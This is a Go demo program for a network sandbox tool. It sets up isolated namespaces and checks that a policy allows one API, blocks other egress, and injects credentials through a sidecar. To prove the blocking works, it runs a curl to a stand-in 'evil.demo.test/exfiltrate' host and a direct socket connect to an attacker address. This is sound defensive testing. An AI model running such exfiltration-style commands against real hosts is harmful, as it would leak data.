//go:build linux

// Command demo is `make demo`: it builds a small world of its own (a "host" network namespace
// and an "outside" one holding a DNS server, an HTTPS API and a fake model provider), creates
// a local sandbox with deploy/examples/sandbox-policy.yaml using the real airlock binary, and
// shows, one line per step, an allowed request, a denied one, a credential injected by the
// sidecar and a model call through OPENAI_BASE_URL. It then deletes the sandbox and the world,
// also on Ctrl-C or failure. It never touches this machine's own network namespace. Run as
// root: go run ./tools/demo --bin bin/airlock
package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"github.com/airlock-dev/airlock/ebpf"
)

// The demo's secrets: held by the sidecar (create's environment), never by the sandbox.
const (
	demoToken     = "demo-token-1f2e3d4c5b6a"
	demoOpenAIKey = "sk-demo-provider-key-000000000000"
)

func main() {
	os.Exit(run())
}

// demo is one run's state.
type demo struct {
	bin, policy, name string
	stateDir, cgroup  string
	certDir           string
	topo              *topology
	out               *outside
}

func run() int {
	bin := flag.String("bin", "bin/airlock", "the airlock binary")
	policy := flag.String("policy", "deploy/examples/sandbox-policy.yaml", "the sandbox's policy")
	flag.Parse()
	if os.Geteuid() != 0 {
		fmt.Fprintln(os.Stderr, "demo: needs root (network namespaces, cgroups, eBPF): sudo make demo")
		return 1
	}
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	d := &demo{name: fmt.Sprintf("demo-%d", os.Getpid())}
	var err error
	if d.bin, err = filepath.Abs(*bin); err == nil {
		d.policy, err = filepath.Abs(*policy)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "demo:", err)
		return 1
	}
	err = d.run(ctx)
	if cerr := d.cleanup(); cerr != nil {
		fmt.Fprintf(os.Stderr, "demo: cleanup: %v\n", cerr)
		if err == nil {
			err = cerr
		}
	}
	if err != nil {
		if ctx.Err() != nil {
			fmt.Fprintln(os.Stderr, "demo: interrupted; everything it created is removed")
			return 130
		}
		fmt.Fprintf(os.Stderr, "demo: FAILED: %v\n", err)
		return 1
	}
	fmt.Println("demo: done")
	return 0
}

// step prints one line of the demo's story.
func step(what, format string, args ...any) {
	fmt.Printf("==> %-11s %s\n", what, fmt.Sprintf(format, args...))
}

func (d *demo) run(ctx context.Context) error {
	dir, err := os.MkdirTemp("", "airlock-demo-")
	if err != nil {
		return err
	}
	d.stateDir = filepath.Join(dir, "state")
	d.certDir = filepath.Join(dir, "no-cert-dir")
	if err := os.Mkdir(d.certDir, 0o755); err != nil {
		return err
	}
	prefix := fmt.Sprintf("aldemo-%d", os.Getpid())
	d.topo, err = newTopology(prefix)
	if err != nil {
		return fmt.Errorf("topology: %w", err)
	}
	root, err := ebpf.Cgroup2Root()
	if err != nil {
		return err
	}
	d.cgroup = filepath.Join(root, prefix)
	if err := os.Mkdir(d.cgroup, 0o755); err != nil {
		return fmt.Errorf("cgroup parent: %w", err)
	}
	d.out = &outside{}
	if err := d.out.newCA(filepath.Join(dir, "outside-ca.pem")); err != nil {
		return fmt.Errorf("outside CA: %w", err)
	}
	if err := d.out.start(d.topo.outside, demoOpenAIKey); err != nil {
		return err
	}
	step("world", "netns %s plays this host, %s the internet (DNS, api.demo.test, evil.demo.test, a fake model provider)",
		d.topo.host, d.topo.outside)

	r, err := d.airlock(ctx, nil, true, "sandbox", "create", d.name, "--policy", d.policy, "--state-dir", d.stateDir,
		"--subnet", sandboxPool, "--cgroup-parent", d.cgroup, "--upstream-dns", dnsAddr+":53")
	if err != nil || r.code != 0 {
		return fmt.Errorf("sandbox create: %v %s", err, r.stderr)
	}
	step("create", "sandbox %s: its own netns, veth, cgroup, eBPF and sidecar (policy %s)", d.name, filepath.Base(d.policy))

	// Allowed: the API the policy names.
	r, err = d.exec(ctx, nil, "curl", "-sS", "--max-time", "20", "-w", `\n%{http_code}`, "https://api.demo.test/hello")
	body, code := splitCode(r.stdout)
	if err != nil || code != "200" {
		return fmt.Errorf("allowed request: %v %s %s", err, r.stdout, r.stderr)
	}
	step("allowed", "curl https://api.demo.test/hello -> %s %s", code, strings.TrimSpace(body))

	// Denied: a host the policy does not name.
	r, err = d.exec(ctx, nil, "curl", "-sS", "--max-time", "20", "-w", `\n%{http_code}`, "http://evil.demo.test/exfiltrate")
	body, code = splitCode(r.stdout)
	if err != nil || code != "403" {
		return fmt.Errorf("denied request: %v %s %s", err, r.stdout, r.stderr)
	}
	step("denied", "curl http://evil.demo.test/exfiltrate -> %s %s", code, strings.TrimSpace(body))

	// Ignoring the proxy gets nowhere either: the kernel refuses the connect.
	r, err = d.exec(ctx, []string{"--no-env"}, "python3", "-c", `import socket
try:
    socket.create_connection(("`+evilAddr+`", 8443), timeout=10)
    print("connected")
except OSError as e:
    print(e)`)
	if err != nil || !strings.Contains(r.stdout, "Operation not permitted") {
		return fmt.Errorf("a direct connection was not refused by the kernel: %v %s %s", err, r.stdout, r.stderr)
	}
	step("kernel", "python3 connect() straight to %s:8443, no proxy -> %s", evilAddr, strings.TrimSpace(r.stdout))

	// The credential: injected by the sidecar, never in the sandbox.
	r, err = d.exec(ctx, nil, "sh", "-c", "env")
	if err != nil || strings.Contains(r.stdout, demoToken) {
		return fmt.Errorf("the sandbox's environment holds the token (or env failed: %v)", err)
	}
	got := d.out.authOf("api.demo.test")
	if got != "Bearer "+demoToken {
		return fmt.Errorf("api.demo.test did not receive the injected token (got %d bytes)", len(got))
	}
	step("credential", "api.demo.test received Authorization: Bearer <DEMO_API_TOKEN>, added by the sidecar; the sandbox never held it")

	// A model call through the local endpoint.
	r, err = d.exec(ctx, nil, "sh", "-c", `curl -sS --max-time 20 "$OPENAI_BASE_URL/chat/completions" `+
		`-H 'Content-Type: application/json' -d '{"model":"gpt-demo","messages":[{"role":"user","content":"hi"}]}'`)
	var chat struct {
		Choices []struct {
			Message struct{ Content string } `json:"message"`
		} `json:"choices"`
		Usage struct {
			Total int `json:"total_tokens"`
		} `json:"usage"`
	}
	if err != nil || json.Unmarshal([]byte(r.stdout), &chat) != nil || len(chat.Choices) == 0 {
		return fmt.Errorf("model call: %v %s %s", err, r.stdout, r.stderr)
	}
	step("llm", "POST $OPENAI_BASE_URL/chat/completions (model gpt-demo) -> %q, %d tokens; the provider key stayed in the sidecar",
		chat.Choices[0].Message.Content, chat.Usage.Total)

	if r, err = d.airlock(ctx, nil, false, "sandbox", "list", "--state-dir", d.stateDir); err == nil && r.code == 0 {
		for _, l := range strings.Split(strings.TrimSpace(r.stdout), "\n") {
			fmt.Println("    " + l)
		}
	}

	var pids []struct {
		Supervisor int `json:"supervisor_pid"`
		Sidecar    int `json:"sidecar_pid"`
	}
	if r, err = d.airlock(ctx, nil, false, "sandbox", "list", "--json", "--state-dir", d.stateDir); err != nil || json.Unmarshal([]byte(r.stdout), &pids) != nil || len(pids) != 1 {
		return fmt.Errorf("sandbox list --json: %v %s", err, r.stdout)
	}
	r, err = d.airlock(ctx, nil, false, "sandbox", "delete", "--state-dir", d.stateDir, d.name)
	if err != nil || r.code != 0 {
		return fmt.Errorf("sandbox delete: %v %s", err, r.stderr)
	}
	for _, p := range []string{"/run/netns/airlock-" + d.name, filepath.Join(d.cgroup, d.name),
		"/sys/fs/bpf/airlock/" + d.name, filepath.Join(d.stateDir, "sandboxes", d.name+".json")} {
		if _, err := os.Lstat(p); err == nil {
			return fmt.Errorf("left after delete: %s", p)
		}
	}
	for _, pid := range []int{pids[0].Supervisor, pids[0].Sidecar} {
		if pid > 0 && syscall.Kill(pid, 0) == nil {
			if b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid)); !strings.Contains(string(b), ") Z ") {
				return fmt.Errorf("left after delete: process %d", pid)
			}
		}
	}
	step("delete", "sandbox %s deleted; checked: no namespace, cgroup, pins, state file or sidecar process left", d.name)
	return nil
}

// result is one command's outcome.
type result struct {
	stdout, stderr string
	code           int
}

// airlock runs the binary in the host namespace (only its network namespace is entered, so
// it sees /sys/fs/cgroup and /sys/fs/bpf). With show, its output is printed indented.
func (d *demo) airlock(ctx context.Context, extraEnv []string, show bool, args ...string) (result, error) {
	if ctx.Err() != nil {
		return result{}, ctx.Err()
	}
	cctx, cancel := context.WithTimeout(ctx, 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(cctx, "nsenter", append([]string{"--net=/run/netns/" + d.topo.host, "--", d.bin}, args...)...)
	cmd.Env = append([]string{
		"PATH=" + os.Getenv("PATH"),
		"HOME=" + os.Getenv("HOME"),
		// The outside world's CA is the only root the sidecar trusts, and create copies it
		// into the sandbox's bundle next to the sidecar's own CA.
		"SSL_CERT_FILE=" + d.out.caFile,
		"SSL_CERT_DIR=" + d.certDir,
		"DEMO_API_TOKEN=" + demoToken,
		"DEMO_OPENAI_KEY=" + demoOpenAIKey,
	}, extraEnv...)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err := cmd.Run()
	r := result{stdout: stdout.String(), stderr: stderr.String()}
	if show {
		for _, l := range strings.Split(strings.TrimSpace(r.stderr+r.stdout), "\n") {
			fmt.Println("    " + l)
		}
	}
	var ee *exec.ExitError
	if errors.As(err, &ee) && ee.Exited() {
		r.code, err = ee.ExitCode(), nil
	}
	if err == nil && cctx.Err() != nil {
		err = cctx.Err()
	}
	return r, err
}

// exec runs `airlock sandbox exec [flags] NAME -- argv...` without the secrets in its
// environment (a sandbox user's shell has none).
func (d *demo) exec(ctx context.Context, flags []string, argv ...string) (result, error) {
	args := append(append([]string{"sandbox", "exec", "--state-dir", d.stateDir}, flags...), d.name, "--")
	args = append(args, argv...)
	if ctx.Err() != nil {
		return result{}, ctx.Err()
	}
	cctx, cancel := context.WithTimeout(ctx, time.Minute)
	defer cancel()
	cmd := exec.CommandContext(cctx, "nsenter", append([]string{"--net=/run/netns/" + d.topo.host, "--", d.bin}, args...)...)
	// A plain system PATH: what a user of the sandbox would have.
	cmd.Env = []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/tmp"}
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err := cmd.Run()
	r := result{stdout: stdout.String(), stderr: stderr.String()}
	var ee *exec.ExitError
	if errors.As(err, &ee) && ee.Exited() {
		r.code, err = ee.ExitCode(), nil
	}
	return r, err
}

// cleanup removes the sandbox (if still there), the servers, the cgroup parent and the
// namespaces; it runs on success, failure and interruption alike.
func (d *demo) cleanup() error {
	var errs []error
	if d.topo != nil && d.stateDir != "" {
		if _, err := os.Stat(filepath.Join(d.stateDir, "sandboxes", d.name+".json")); err == nil {
			r, err := d.airlock(context.Background(), nil, false, "sandbox", "delete", "--state-dir", d.stateDir, d.name)
			if err != nil || r.code != 0 {
				errs = append(errs, fmt.Errorf("sandbox delete: %v %s", err, r.stderr))
			}
		}
	}
	if d.out != nil {
		d.out.close()
	}
	if d.cgroup != "" {
		if err := os.Remove(d.cgroup); err != nil && !errors.Is(err, os.ErrNotExist) {
			errs = append(errs, err)
		}
	}
	if d.topo != nil {
		if err := d.topo.remove(); err != nil {
			errs = append(errs, err)
		} else {
			step("cleanup", "namespaces %s and %s removed; nothing of the demo is left", d.topo.host, d.topo.outside)
		}
	}
	if d.stateDir != "" {
		errs = append(errs, os.RemoveAll(filepath.Dir(d.stateDir)))
	}
	return errors.Join(errs...)
}

func splitCode(out string) (body, code string) {
	i := strings.LastIndexByte(out, '\n')
	if i < 0 {
		return "", strings.TrimSpace(out)
	}
	return out[:i], strings.TrimSpace(out[i+1:])
}
